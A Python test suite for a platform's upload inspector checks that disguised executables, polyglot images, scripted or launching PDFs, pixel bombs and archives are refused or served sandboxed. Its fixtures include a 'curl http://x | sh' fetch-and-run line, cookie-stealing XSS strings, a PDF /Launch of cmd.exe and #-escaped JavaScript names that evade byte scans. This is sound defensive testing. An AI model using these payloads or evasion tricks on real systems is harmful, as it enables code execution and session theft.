"""Uploads are checked by content (issue 14 §1): real PDFs, images, OFDs, executables and polyglots, built
here byte by byte or with reportlab, Pillow and pypdf, go through tongban.files.inspect; the dispute
upload refuses a disguised executable over real HTTP and serves what it keeps as a sandboxed attachment."""

from __future__ import annotations

import asyncio
import io
import random
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from reportlab.pdfgen import canvas
from sqlalchemy import func, select
from sqlalchemy.orm import Session
from starlette.datastructures import UploadFile

from tests.disputes.conftest import IDS, world  # noqa: F401 - the disputes world fixture
from tests.factories import SmallCity, actor_of, make_uscc
from tests.licences.conftest import LicenceWorld, business_licence_type
from tongban.config import Settings
from tongban.disputes.models import DisputeAttachment
from tongban.files import MATERIALS, AcceptPolicy, FileRefused, Kind, get_store, inspect_upload, read_upload
from tongban.files.serve import file_response
from tongban.licences.models import LicenceVersion
from tongban.seals import service as seals

# ---------------------------------------------------------------- real bytes


def pdf(pages: int = 1) -> bytes:
    out = io.BytesIO()
    c = canvas.Canvas(out, pagesize=(200, 200))
    for n in range(pages):
        c.drawString(20, 100, f"page {n + 1}")
        c.showPage()
    c.save()
    return out.getvalue()


def image(fmt: str, size: tuple[int, int] = (40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, format=fmt)
    return out.getvalue()


def photo() -> bytes:
    """A JPEG of noise, some tens of KB, like a photo (its data runs well past where browsers sniff)."""
    out = io.BytesIO()
    Image.frombytes("RGB", (160, 120), random.Random(14).randbytes(160 * 120 * 3)).save(out, format="JPEG")
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_claiming(width: int, height: int) -> bytes:
    """A PNG whose header claims `width`×`height` over a few bytes of data: decoding it would allocate it all."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", zlib.compress(b"\x00" * 64))
            + _chunk(b"IEND", b""))


def elf() -> bytes:
    """An ELF64 x86-64 executable header (e_ident, ET_EXEC, EM_X86_64, version, entry, table offsets)."""
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\x00" * 8
    return ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0) + b"\x00" * 64


def pe() -> bytes:
    """A DOS stub whose e_lfanew points at a PE signature and a COFF header (i386, one section)."""
    dos = bytearray(b"MZ" + b"\x00" * 62)
    dos[0x3C:0x40] = struct.pack("<I", 0x80)
    stub = b"This program cannot be run in DOS mode.\r\r\n$".ljust(0x80 - 64, b"\x00")
    return bytes(dos) + stub + b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x102)


def ofd(pages: int = 2) -> bytes:
    """A minimal OFD (GB/T 33190): OFD.xml naming Doc_0/Document.xml, which lists its pages."""
    ns = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    page_list = "".join(f'<ofd:Page ID="{n + 10}" BaseLoc="Pages/Page_{n}/Content.xml"/>' for n in range(pages))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("OFD.xml", f'<?xml version="1.0" encoding="UTF-8"?><ofd:OFD {ns} Version="1.0" DocType="OFD">'
                               "<ofd:DocBody><ofd:DocInfo><ofd:DocID>a1</ofd:DocID></ofd:DocInfo>"
                               "<ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>")
        zf.writestr("Doc_0/Document.xml", f'<?xml version="1.0" encoding="UTF-8"?><ofd:Document {ns}>'
                                          f"<ofd:CommonData><ofd:MaxUnitID>99</ofd:MaxUnitID></ofd:CommonData>"
                                          f"<ofd:Pages>{page_list}</ofd:Pages></ofd:Document>")
        for n in range(pages):
            zf.writestr(f"Doc_0/Pages/Page_{n}/Content.xml", f"<ofd:Page {ns}><ofd:Content/></ofd:Page>")
    return out.getvalue()


def zip_of(**entries: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for name, data in entries.items():
            zf.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF with exactly these objects (1 = catalog) and a correct cross-reference table."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def refused(content: bytes, name: str = "材料.pdf", accept: AcceptPolicy = MATERIALS) -> FileRefused:
    with pytest.raises(FileRefused) as exc:
        inspect_upload(content, declared_name=name, accept=accept)
    assert exc.value.status_code == 422 and not exc.value.message.isascii() and name in exc.value.message
    return exc.value


# ---------------------------------------------------------------- accepted, by their bytes


def test_pdf_images_and_ofd_are_known_by_their_bytes_whatever_their_name() -> None:
    got = inspect_upload(pdf(3), declared_name="营业执照.pdf", accept=MATERIALS)
    assert (got.kind, got.content_type, got.pages, got.filename) == (Kind.PDF, "application/pdf", 3, "营业执照.pdf")
    assert len(got.sha256) == 64 and got.size == len(pdf(3)) and got.inline_safe
    jpeg = inspect_upload(image("JPEG", (640, 480)), declared_name="身份证正面.JPG", accept=MATERIALS)
    assert (jpeg.kind, jpeg.content_type, jpeg.width, jpeg.height, jpeg.filename) == (
        Kind.JPEG, "image/jpeg", 640, 480, "身份证正面.JPG")
    # A renamed file is no error: it is stored under the extension of what it is.
    png = inspect_upload(image("PNG"), declared_name="C:\\扫描\\户口簿.pdf", accept=MATERIALS)
    assert (png.kind, png.content_type, png.filename) == (Kind.PNG, "image/png", "户口簿.png")
    assert inspect_upload(image("PNG"), declared_name="户口簿", accept=MATERIALS).filename == "户口簿.png"
    assert inspect_upload(pdf(), declared_name="证明.exe", accept=MATERIALS).filename == "证明.pdf"
    assert inspect_upload(pdf(), declared_name="2024.12", accept=MATERIALS).filename == "2024.12.pdf"
    doc = inspect_upload(ofd(2), declared_name="电子证照.zip", accept=MATERIALS)
    assert (doc.kind, doc.content_type, doc.pages, doc.filename) == (Kind.OFD, "application/ofd", 2, "电子证照.ofd")


def test_kinds_a_policy_does_not_take_are_refused_with_what_they_are() -> None:
    evidence = AcceptPolicy(kinds=frozenset({Kind.PDF, Kind.JPEG, Kind.PNG}), max_bytes=5 * 1024 * 1024)
    e = refused(ofd(), "证照.ofd", evidence)
    assert e.code == "file_type" and "OFD" in e.message and "PDF、JPEG 或 PNG" in e.message
    for fmt in ("TIFF", "WEBP", "GIF", "BMP"):
        e = refused(image(fmt), "扫描件.jpg")
        assert e.code == "file_type" and "PDF、OFD、JPEG 或 PNG" in e.message, fmt
    # A policy that lists TIFF takes it, multi-page scans counted.
    tiffs = AcceptPolicy(kinds=frozenset({Kind.TIFF}), max_bytes=1024 * 1024)
    assert inspect_upload(image("TIFF"), declared_name="scan", accept=tiffs).filename == "scan.tif"
    e = refused(b"just some text, not a scan", "说明.txt")
    assert e.code == "file_type" and "与扩展名无关" in e.message


# ---------------------------------------------------------------- refused


@pytest.mark.parametrize(("content", "detected"), [
    (pe(), "Windows 可执行程序"),
    (elf(), "Linux 可执行程序"),
    (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 56, "macOS 可执行程序"),
    (b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + b"\x00" * 56, "Java 类文件或 macOS 程序"),
    (b"#!/bin/sh\ncurl http://x | sh\n", "脚本程序"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504, "安装包或旧版 Office 文档（可能含宏）"),
    (zip_of(**{"META-INF__MANIFEST.MF": b"Main-Class: A\n", "A.class": b"\xca\xfe\xba\xbe"}), "Java 程序"),
    (zip_of(**{"classes.dex": b"dex\n035\x00", "AndroidManifest.xml": b"\x03\x00"}), "Android 安装程序"),
])
def test_a_disguised_executable_is_refused_whatever_its_name(content: bytes, detected: str) -> None:
    for name in ("身份证正面.jpg", "申请表.pdf", "材料"):
        e = refused(content, name)
        assert e.code == "file_executable" and e.detail["detected"] == detected and "安全" in e.message


def test_archives_and_office_files_are_refused_with_what_to_do() -> None:
    e = refused(zip_of(**{"扫描1.jpg": image("JPEG")}), "材料.ofd")
    assert e.code == "file_archive" and "ZIP 压缩包" in e.message
    e = refused(zip_of(**{"[Content_Types].xml": b"<Types/>", "word__document.xml": b"<w:document/>"}), "申请表.docx")
    assert e.code == "file_type" and "另存为 PDF" in e.message
    assert refused(b"Rar!\x1a\x07\x01\x00" + b"\x00" * 20, "材料.rar").code == "file_archive"
    assert refused(zlib.compress(b"x") and b"\x1f\x8b\x08\x00" + b"\x00" * 20, "a.gz").code == "file_archive"


def test_markup_where_browsers_sniff_is_refused_and_a_polyglot_tail_is_never_inline() -> None:
    for content in (b"<html><script>alert(1)</script></html>", b"\xef\xbb\xbf  <svg onload=alert(1)>",
                    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'):
        assert refused(content, "照片.png").code == "file_markup"
    # A real PNG whose first chunk carries a script: a browser sniffing the start would see HTML.
    png = image("PNG")
    scripted = png[:33] + _chunk(b"tEXt", b"Comment\x00<script>fetch('/api')</script>") + png[33:]
    Image.open(io.BytesIO(scripted)).load()  # still a valid PNG to an image decoder
    e = refused(scripted, "照片.png")
    assert e.code == "file_markup" and "PNG" in e.message
    # An HTML page appended after the image data: still a JPEG to us (and to every decoder), kept, but marked
    # so it is never served inline (and serve.py serves nothing as HTML anyway).
    html = b"<html><body><script>alert(document.cookie)</script></body></html>"
    got = inspect_upload(photo() + html, declared_name="照片.jpg", accept=MATERIALS)
    assert got.kind is Kind.JPEG and got.inline_safe is False
    # Appended to an image so small that the page falls where browsers sniff, it is refused.
    assert refused(image("JPEG") + html, "照片.jpg").code == "file_markup"
    assert inspect_upload(image("JPEG"), declared_name="照片.jpg", accept=MATERIALS).inline_safe is True


def test_empty_and_oversized_files_are_refused() -> None:
    e = refused(b"", "空白.pdf")
    assert e.code == "file_empty" and "0 字节" in e.message
    small = AcceptPolicy(kinds=frozenset({Kind.PDF}), max_bytes=1024)
    e = refused(pdf(1) + b"\x00" * 2048, "大文件.pdf", small)
    assert e.code == "file_too_large" and "1 KB" in e.message and e.detail["max_bytes"] == 1024


def test_image_pixel_bombs_are_refused_from_the_header_before_decoding() -> None:
    # 64 megapixels in a 100-byte file: over the policy's 50 MP, under Pillow's own warning threshold.
    e = refused(png_claiming(8000, 8000), "照片.png")
    assert e.code == "file_image_too_large" and e.detail["pixels"] == 64_000_000 and "百万像素" in e.message
    # 10 gigapixels: Pillow's own limit trips while reading the header; the same refusal.
    assert refused(png_claiming(100_000, 100_000), "照片.png").code == "file_image_too_large"
    strict = AcceptPolicy(kinds=frozenset({Kind.JPEG}), max_bytes=10 * 1024 * 1024, max_image_pixels=100_000)
    assert refused(image("JPEG", (400, 300)), "照片.jpg", strict).code == "file_image_too_large"
    # Within the limits, an image that is cut off is unreadable, not half-accepted.
    assert refused(image("JPEG", (400, 300))[:300], "照片.jpg").code == "file_unreadable"


def test_pdfs_are_parsed_pages_counted_and_encrypted_or_broken_ones_refused() -> None:
    e = refused(pdf(201), "档案.pdf")
    assert e.code == "file_too_many_pages" and e.detail == {
        "field": "files", "filename": "档案.pdf", "pages": 201, "max_pages": 200} and "分册" in e.message
    assert inspect_upload(pdf(200), declared_name="档案.pdf", accept=MATERIALS).pages == 200
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf(2))))
    writer.encrypt(user_password="123456", owner_password="owner", algorithm="AES-256")
    encrypted = io.BytesIO()
    writer.write(encrypted)
    e = refused(encrypted.getvalue(), "加密.pdf")
    assert e.code == "file_encrypted" and "去除密码" in e.message
    assert refused(b"%PDF-1.7\n this is not a PDF at all", "坏文件.pdf").code == "file_unreadable"
    assert refused(pdf(3)[:400], "截断.pdf").code == "file_unreadable"
    # A page tree that points at itself ends in a refusal, not a hang.
    loop = raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>")
    assert refused(loop, "循环.pdf").code == "file_unreadable"


def test_pdfs_with_scripts_launch_actions_or_embedded_files_are_refused() -> None:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf(1))))
    writer.add_open_action(JavaScript("app.alert('hi');"))
    scripted = io.BytesIO()
    writer.write(scripted)
    e = refused(scripted.getvalue(), "表格.pdf")
    assert e.code == "file_active_content" and "/JavaScript" in e.detail["found"] and "打印为 PDF" in e.message

    def attaching(name: str, data: bytes) -> bytes:
        writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf(4))))  # the attachment lands past the first 1 KB
        writer.add_attachment(name, data)
        out = io.BytesIO()
        writer.write(out)
        return out.getvalue()

    # An embedded program, archive or web page is refused; embedded data (as e-licences carry) is not.
    for payload in (pe(), elf(), zip_of(**{"a.exe": pe()}), b"<!DOCTYPE html><script>alert(1)</script>"):
        e = refused(attaching("readme.txt", payload), "附件.pdf")
        assert (e.code, e.detail.get("found")) == ("file_active_content", ["/EmbeddedFile"]), payload[:8]
    for name, content in (("licence.json", '{"holder": "王建国"}'.encode()), ("invoice.xml", b'<?xml version="1.0"?><i/>')):
        assert inspect_upload(attaching(name, content), declared_name="附件.pdf", accept=MATERIALS).pages == 4
    # Names written with #-escapes (/J#61vaScript = /JavaScript, /J#53 = /JS) escape a byte scan, not the parser.
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"
    hidden = raw_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>",
                     b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page)
    assert b"/JavaScript" not in hidden and b"/JS" not in hidden
    assert set(refused(hidden, "隐藏.pdf").detail["found"]) == {"/JavaScript", "/JS"}
    launch = raw_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                     page, b"<< /S /Launch /F (cmd.exe) >>")
    assert "/Launch" in refused(launch, "启动.pdf").detail["found"]
    plain = raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page)
    assert inspect_upload(plain, declared_name="正常.pdf", accept=MATERIALS).pages == 1


def test_ofd_structure_is_checked() -> None:
    policy = AcceptPolicy(kinds=frozenset({Kind.OFD}), max_bytes=1024 * 1024, max_pages=3)
    assert refused(ofd(4), "多页.ofd", policy).code == "file_too_many_pages"
    assert refused(zip_of(**{"OFD.xml": b"<ofd:OFD"}), "坏.ofd").code == "file_unreadable"
    bomb = zip_of(**{"OFD.xml": b'<!DOCTYPE x [<!ENTITY a "aaaa">]><OFD>&a;</OFD>'})
    assert refused(bomb, "实体.ofd").code == "file_unreadable"
    inside = io.BytesIO(ofd(1))
    with zipfile.ZipFile(inside, "a") as zf:
        zf.writestr("Doc_0/Res/font.ttf", pe())
    assert refused(inside.getvalue(), "带程序.ofd").code == "file_executable"


# ---------------------------------------------------------------- reading and serving


def test_an_oversized_upload_is_refused_before_it_is_read_whole() -> None:
    policy = AcceptPolicy(kinds=frozenset({Kind.PDF}), max_bytes=100 * 1024)
    big = io.BytesIO(pdf(1) + b"\x00" * (10 * 1024 * 1024))
    with pytest.raises(FileRefused) as exc:
        asyncio.run(read_upload(UploadFile(big, filename="大.pdf"), accept=policy))
    assert exc.value.code == "file_too_large" and big.tell() <= policy.max_bytes + 1
    # Where the size is known (starlette counts it as the part arrives), not a byte is read.
    sized = io.BytesIO(pdf(1) + b"\x00" * (10 * 1024 * 1024))
    with pytest.raises(FileRefused):
        asyncio.run(read_upload(UploadFile(sized, filename="大.pdf", size=len(sized.getvalue())), accept=policy))
    assert sized.tell() == 0
    content = pdf(2)
    assert asyncio.run(read_upload(UploadFile(io.BytesIO(content), filename="a.pdf"), accept=policy)) == content


def test_file_response_serves_nothing_as_html() -> None:
    r = file_response(b"<html><script>alert(1)</script>", filename="页面.html", content_type="text/html")
    assert r.media_type == "application/octet-stream" and r.headers["content-disposition"].startswith("attachment;")
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["content-security-policy"].startswith("sandbox")
    assert file_response(b"x", filename="a.svg", content_type="image/svg+xml").media_type == "application/octet-stream"
    inline = file_response(image("PNG"), filename="照片.png", content_type="image/png", inline=True)
    assert inline.headers["content-disposition"] == "inline; filename=\"__.png\"; filename*=UTF-8''%E7%85%A7%E7%89%87.png"
    assert file_response(ofd(), filename="a.ofd", content_type="application/ofd", inline=True).headers[
        "content-disposition"].startswith("attachment;")


# ---------------------------------------------------------------- over HTTP, with the database

BASE = "/api/v1/disputes"


def test_dispute_upload_refuses_a_disguised_executable_and_serves_files_sandboxed(
        client: TestClient, session: Session, settings: Settings, world: dict[str, Any]) -> None:  # noqa: F811
    key = {"Authorization": f"Bearer {world['secret']}"}
    r = client.post(BASE, json={"resource_id": world["resource"].id, "record_key": IDS[0], "items": ["address"],
                                "description": "办件核验时申请人出示的户口簿地址与共享数据不一致。"}, headers=key)
    assert r.status_code == 201, r.text
    dispute = r.json()
    for name, content in (("户口簿.jpg", pe()), ("迁移证明.pdf", elf())):
        r = client.post(f"{BASE}/{dispute['id']}/attachments", headers=key, files=[
            ("files", ("户口簿.png", image("PNG"), "image/png")), ("files", (name, content, "image/jpeg"))])
        assert r.status_code == 422 and r.json()["code"] == "file_executable", r.text
        assert name in r.json()["message"] and "安全" in r.json()["message"]
    # Nothing of the refused upload is kept: no row, and not even the good file next to the bad one.
    assert session.execute(select(func.count()).select_from(DisputeAttachment)).scalar_one() == 0
    root = Path(settings.files_dir)
    assert not root.exists() or not any(p.is_file() for p in root.rglob("*"))
    # A PNG named .pdf is taken as the PNG it is; downloads are attachments, unsniffable and sandboxed.
    polyglot = image("PNG", (300, 300)) + b"\x00" * 1024 + b"<html><script>alert(document.cookie)</script></html>"
    r = client.post(f"{BASE}/{dispute['id']}/attachments", headers=key,
                    files=[("files", ("户口簿.pdf", polyglot, "application/pdf"))])
    assert r.status_code == 201, r.text
    stored = r.json()[0]
    assert (stored["filename"], stored["content_type"]) == ("户口簿.png", "image/png")
    got = client.get(f"{BASE}/{dispute['id']}/attachments/{stored['id']}", headers=key)
    assert got.status_code == 200 and got.content == polyglot
    assert got.headers["content-type"] == "image/png" and got.headers["x-content-type-options"] == "nosniff"
    assert got.headers["content-disposition"].startswith("attachment;")
    assert got.headers["content-security-policy"].startswith("sandbox")


def test_an_e_licence_of_the_platform_is_taken_as_a_material(session: Session, city: SmallCity) -> None:
    """Applicants upload the signed PDFs they downloaded from 我的证照: signatures and forms are no active content."""
    seal = seals.create_seal(session=session, actor=actor_of(city.users["admin"]),
                             seal_in=seals.SealCreate(department_id=city.amr.id, kind="approval"))
    licence = LicenceWorld(city, seal, business_licence_type(session, city), make_uscc("610902", "91")).issue(session)
    version = session.execute(select(LicenceVersion).where(LicenceVersion.licence_id == licence.id)).scalar_one()
    got = inspect_upload(get_store().read_blob(version.pdf_sha256), declared_name="营业执照", accept=MATERIALS)
    assert (got.kind, got.pages, got.filename) == (Kind.PDF, 1, "营业执照.pdf")
